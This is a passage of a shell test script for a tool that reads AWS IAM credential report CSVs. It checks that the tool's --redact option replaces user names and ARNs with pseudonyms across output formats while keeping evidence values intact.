# report text that carries a user ARN (here the root key's last-used region)
# is redacted too; without --redact the same output names the user
sed -n 1p fixtures/demo.csv >"$T/arn.csv"
sed -n 2p fixtures/demo.csv | sed 's|,us-east-1,s3,|,arn:aws:iam::111122223333:user/ci/deploy-bot,s3,|' >>"$T/arn.csv"
for f in text json $FORMATS; do
	"$BIN" --format "$f" "$T/arn.csv" >"$T/plain.$f" 2>&1
	check "redact $f: control output names the user" grep -q 'user/ci/deploy-bot' "$T/plain.$f"
	"$BIN" --redact --format "$f" "$T/arn.csv" >"$T/red.$f" 2>&1
	check "redact $f: ARN in report text redacted" sh -c "! grep -q 'deploy-bot' '$T/red.$f' && grep -q 'arn:aws:iam::111122223333:user/user-0001' '$T/red.$f'"
done
for f in $FORMATS; do
	check "redact $f: redacted output valid" valid "$f" "$T/red.$f"
done
# a user whose name is also a value of the report ("true"): the evidence
# keeps the report's values, the name and ARN still become the pseudonym
sed 's#^alice,arn:aws:iam::111122223333:user/alice,#true,arn:aws:iam::111122223333:user/true,#' \
	fixtures/demo.csv >"$T/true.csv"
"$BIN" --redact -f json --rules access-key-not-rotated "$T/true.csv" >"$T/true.json" 2>&1
check "redact: a user named true, the finding's user redacted" test \
	"$(jq -r '[.inputs[0].findings[] | select(.arn | test("user/user-"))] | length' "$T/true.json")" -gt 0
check "redact: a user named true, no name left" sh -c "! jq -r '.inputs[0].findings[] | .user, .arn' '$T/true.json' | grep -qx 'true\|.*user/true'"
check "redact: a user named true, evidence values kept" test \
	"$(jq -r '[.inputs[0].findings[].evidence | to_entries[] | select(.key | endswith("_active")) | .value] | unique | join(",")' "$T/true.json")" = true

finish formats
